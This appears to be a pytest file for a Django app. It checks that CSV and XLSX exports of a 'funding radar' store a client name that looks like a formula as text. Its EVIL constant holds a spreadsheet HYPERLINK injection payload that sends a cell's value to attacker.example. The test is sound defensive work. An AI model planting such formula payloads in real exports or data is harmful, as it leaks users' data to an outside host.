"""The funding radar downloads a client's name that looks like a formula as text
(issue 19, item 7; the shared writer is tested in tests/core/test_spreadsheet_exports.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client as HttpClient
from openpyxl import load_workbook

EVIL = '=HYPERLINK("https://attacker.example/?d="&A1,"Click")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_radar_writes_a_formula_like_name_as_text(world, fmt) -> None:
    # given a client whose last name is a spreadsheet formula
    client = world["long_term"]
    client.last_name = EVIL
    client.save(update_fields=["last_name"])
    http = HttpClient()
    http.force_login(world["analyst"])
    # when the analyst downloads the radar
    response = http.get("/funding/radar/", {"format": fmt})
    assert response.status_code == 200
    # then the name is text: an apostrophe in CSV, a string cell in XLSX
    if fmt == "csv":
        assert response.content.startswith("\ufeff".encode())
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        names = [r["name"] for r in rows if "HYPERLINK" in r["name"]]
        assert names and all(n.startswith("'=HYPERLINK") for n in names)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
        assert all(str(c.value).startswith("=HYPERLINK") for c in cells)
